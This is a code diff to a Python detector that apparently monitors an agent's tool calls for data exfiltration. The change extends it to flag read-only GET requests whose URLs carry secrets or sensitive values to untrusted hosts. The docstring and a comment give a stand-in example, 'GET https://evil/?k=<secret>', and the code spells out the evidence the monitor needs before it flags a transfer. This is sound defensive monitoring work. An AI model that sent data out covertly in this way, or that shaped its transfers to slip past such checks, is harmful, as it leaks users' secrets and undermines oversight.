@@ -14,7 +14,9 @@ a sensitive read found in the outgoing parameters (the data itself flows out). A
 is only *named* like sensitive data (``customer.lookup``) or only large, followed by a send,
 is a warning: replying to the customer you just looked up is ordinary work. Without a
 preceding read or sensitive content nothing fires, so with no policy (no trusted domains)
-ordinary e-mail is not exfiltration.
+ordinary e-mail is not exfiltration. A read-only call whose URL carries secrets or the
+values of a sensitive read to an untrusted host (``GET https://x/?k=<secret>``) is a covert
+transfer and is judged the same way, on that strong evidence only.
 """
 
 from __future__ import annotations
@@ -93,7 +95,14 @@ class DataExfiltration(Detector):
         self._cursor = 0  # reads are judged lazily, when a transfer arrives
 
     def on_step(self, facts: StepFacts) -> None:
-        if facts.tool is None or not facts.is_write:
+        if facts.tool is None:
+            return
+        if not facts.is_write:
+            # A "read" that carries data out in its URL (GET https://evil/?k=<secret>):
+            # judged like a transfer, but only on strong evidence (the data itself).
+            if "://" in _params_text(facts.params):
+                self._catch_up()
+                self._judge_transfer(facts, covert=True)
             return
         words = set(tool_words(facts.tool))
         command = _command_text(facts.params)
@@ -147,7 +156,7 @@ class DataExfiltration(Detector):
 
     # -- transfers --------------------------------------------------------------------------
 
-    def _judge_transfer(self, facts: StepFacts) -> None:
+    def _judge_transfer(self, facts: StepFacts, covert: bool = False) -> None:
         ctx = self.ctx
         text = _params_text(facts.params)
         outside = self._untrusted(destinations(text))
@@ -162,7 +171,9 @@ class DataExfiltration(Detector):
         staged = bool(encoded)
         sensitive = bool(outgoing) or any(r.sensitive for r in reads)
         leaked = [s for r in reads for s in r.secrets if s and s in text]
-        addresses = [d.value for d in outside]
+        # A value is "sent" unless it is the address itself (replying to the customer you
+        # read); data in a URL's query string or fragment is sent, not an address.
+        addresses = [d.value.split("?", 1)[0].split("#", 1)[0] for d in outside]
         flowed = [
             s
             for r in reads
@@ -171,6 +182,8 @@ class DataExfiltration(Detector):
             if s in text and not any(s in a or a in s for a in addresses)
         ]
         strong = any(r.strong for r in reads)
+        if covert and not (outgoing or leaked or flowed):
+            return
         critical = staged or bool(outgoing) or bool(leaked) or bool(flowed) or strong
         if staged:
             how = "staged read → encode → send"
